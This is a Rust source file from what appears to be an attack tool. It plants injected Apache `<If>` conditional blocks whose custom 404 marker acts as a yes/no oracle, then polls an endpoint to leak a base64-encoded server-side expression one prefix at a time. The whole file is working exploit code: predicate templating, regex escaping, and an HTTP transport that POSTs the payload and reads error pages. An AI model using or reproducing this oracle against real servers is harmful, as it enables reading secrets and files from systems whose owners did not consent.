// Copyright (c) 2026 Joseph Verdicchio and EvidenceOS Contributors
// SPDX-License-Identifier: Apache-2.0

use std::time::Duration;

use thiserror::Error;

use crate::config::OracleEndpoints;
use crate::error::{PrefixLeakError, PrefixLeakResult};

/// Apache conditional block: matches set a custom 404 body.
pub const DEFAULT_PREDICATE_TEMPLATE: &str = "\n<If \"base64({expr}) =~ m#^{pattern}#\">\n    ErrorDocument 404 \"{marker}\"\n</If>\n";
pub const DEFAULT_MARKER: &str = "114514";

// Regex metacharacters, plus the quote that would end the `<If "...">` argument.
const ESCAPED_CHARS: &[char] = &[
    '\\', '.', '+', '*', '?', '(', ')', '[', ']', '{', '}', '|', '^', '$', '#', '"',
];
const SLOTS: [&str; 3] = ["{expr}", "{pattern}", "{marker}"];

#[derive(Debug, Error)]
#[error("{0}")]
pub struct TransportError(pub String);

impl From<reqwest::Error> for TransportError {
    fn from(err: reqwest::Error) -> Self {
        if err.is_timeout() {
            Self(format!("timed out: {err}"))
        } else {
            Self(err.to_string())
        }
    }
}

/// One boolean per query: does `expression`, encoded remotely, start with `prefix`?
#[allow(async_fn_in_trait)]
pub trait PrefixOracle {
    async fn probe(&mut self, expression: &str, prefix: &str) -> Result<bool, TransportError>;
}

/// Delivery of a rendered predicate and retrieval of the observable result.
#[allow(async_fn_in_trait)]
pub trait PredicateTransport {
    async fn plant(&mut self, predicate: &str) -> Result<(), TransportError>;
    async fn observe(&mut self) -> Result<String, TransportError>;
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PredicateTemplate {
    template: String,
}

impl PredicateTemplate {
    /// `template` must reference `{expr}`, `{pattern}` and `{marker}`.
    pub fn new(template: impl Into<String>) -> PrefixLeakResult<Self> {
        let template = template.into();
        for slot in SLOTS {
            if !template.contains(slot) {
                return Err(PrefixLeakError::InvalidArgument(format!(
                    "predicate template missing {slot}"
                )));
            }
        }
        Ok(Self { template })
    }

    /// Single pass over the template; substituted text is never rescanned.
    pub fn render(&self, expression: &str, prefix: &str, marker: &str) -> String {
        let pattern = escape_pattern(prefix);
        let mut out = String::with_capacity(self.template.len() + expression.len() + pattern.len());
        let mut rest = self.template.as_str();
        while let Some((at, slot)) = SLOTS
            .iter()
            .filter_map(|slot| rest.find(slot).map(|at| (at, *slot)))
            .min_by_key(|(at, _)| *at)
        {
            out.push_str(&rest[..at]);
            out.push_str(match slot {
                "{expr}" => expression,
                "{pattern}" => &pattern,
                _ => marker,
            });
            rest = &rest[at + slot.len()..];
        }
        out.push_str(rest);
        out
    }
}

impl Default for PredicateTemplate {
    fn default() -> Self {
        Self {
            template: DEFAULT_PREDICATE_TEMPLATE.to_string(),
        }
    }
}

/// Literal-prefix escaping for the remote regex inside a quoted argument.
pub fn escape_pattern(prefix: &str) -> String {
    let mut out = String::with_capacity(prefix.len() * 2);
    for c in prefix.chars() {
        if ESCAPED_CHARS.contains(&c) {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

pub struct OracleClient<T> {
    transport: T,
    template: PredicateTemplate,
    marker: String,
    queries: u64,
}

impl<T: PredicateTransport> OracleClient<T> {
    pub fn new(transport: T, template: PredicateTemplate, marker: impl Into<String>) -> Self {
        Self {
            transport,
            template,
            marker: marker.into(),
            queries: 0,
        }
    }

    pub fn queries(&self) -> u64 {
        self.queries
    }

    pub fn into_transport(self) -> T {
        self.transport
    }
}

impl<T: PredicateTransport> PrefixOracle for OracleClient<T> {
    async fn probe(&mut self, expression: &str, prefix: &str) -> Result<bool, TransportError> {
        let predicate = self.template.render(expression, prefix, &self.marker);
        self.queries += 1;
        self.transport.plant(&predicate).await?;
        let body = self.transport.observe().await?;
        let hit = body.contains(&self.marker);
        tracing::debug!(prefix, hit, query = self.queries, "oracle probe");
        Ok(hit)
    }
}

/// Plants by POSTing the predicate body, observes with a GET.
pub struct HttpTransport {
    client: reqwest::Client,
    plant_url: String,
    observe_url: String,
}

impl HttpTransport {
    pub fn new(endpoints: &OracleEndpoints) -> PrefixLeakResult<Self> {
        if endpoints.plant_url.is_empty() || endpoints.observe_url.is_empty() {
            return Err(PrefixLeakError::Config(
                "plant_url and observe_url are required".to_string(),
            ));
        }
        let client = reqwest::Client::builder()
            .timeout(Duration::from_millis(endpoints.timeout_ms))
            .build()
            .map_err(|e| PrefixLeakError::Config(format!("http client: {e}")))?;
        Ok(Self {
            client,
            plant_url: endpoints.plant_url.clone(),
            observe_url: endpoints.observe_url.clone(),
        })
    }
}

impl PredicateTransport for HttpTransport {
    async fn plant(&mut self, predicate: &str) -> Result<(), TransportError> {
        self.client
            .post(&self.plant_url)
            .body(predicate.to_string())
            .send()
            .await?
            .error_for_status()?;
        Ok(())
    }

    // The marker arrives on an error page, so 4xx bodies are read; 5xx means
    // the relay itself failed and the answer is unknown.
    async fn observe(&mut self) -> Result<String, TransportError> {
        let response = self.client.get(&self.observe_url).send().await?;
        let status = response.status();
        if status.is_server_error() {
            return Err(TransportError(format!("observe returned {status}")));
        }
        Ok(response.text().await?)
    }
}
